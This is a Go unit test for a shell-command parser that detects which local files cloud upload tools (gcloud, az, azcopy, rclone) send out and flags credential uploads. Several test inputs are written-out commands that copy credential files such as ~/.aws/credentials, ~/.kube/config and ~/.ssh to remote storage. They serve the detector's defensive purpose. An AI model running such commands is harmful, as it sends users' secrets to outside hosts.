package shell

import (
	"fmt"
	"testing"
)

// The files an upload tool sends: cloud storage CLIs, rclone with its
// options' values left out, and a loop's values spread over a path.
func TestUploadedFiles(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want string
		cred string
	}{
		{`gcloud storage cp ~/.config/gcloud/credentials.db gs://b/x/`, `[~/.config/gcloud/credentials.db]`, "cloud credentials"},
		{`gcloud alpha storage rsync ./out gs://b/out`, `[./out]`, ""},
		{`gcloud storage cp gs://b/x ./x`, `[]`, ""},
		{`az storage blob upload --account-name a -c c -n x --file ~/.kube/config`, `[~/.kube/config]`, "cluster credentials"},
		{`az storage blob upload-batch -d c --source ./dist`, `[./dist]`, ""},
		{`azcopy copy ~/.aws/credentials "https://a.blob.core.windows.net/c?sv=1"`, `[~/.aws/credentials]`, "cloud credentials"},
		{`rclone copy "$HOME/notes" remote:notes --config ./rclone.conf`, `[$HOME/notes]`, ""},
		{`rclone copy "$HOME/.ssh .aws" "remote:p" --config x.conf`, `[$HOME/.ssh .aws]`, "cloud credentials"},
	} {
		s := Parse(c.cmd)
		if len(s.Cmds) == 0 {
			t.Fatalf("%s: no command", c.cmd)
		}
		cmd := s.Cmds[len(s.Cmds)-1]
		if got := fmt.Sprint(uploadedFiles(cmd)); got != c.want {
			t.Errorf("%s: uploads %s, want %s", c.cmd, got, c.want)
		}
		if got := credUploaded(cmd); got != c.cred {
			t.Errorf("%s: credential %q, want %q", c.cmd, got, c.cred)
		}
	}
}
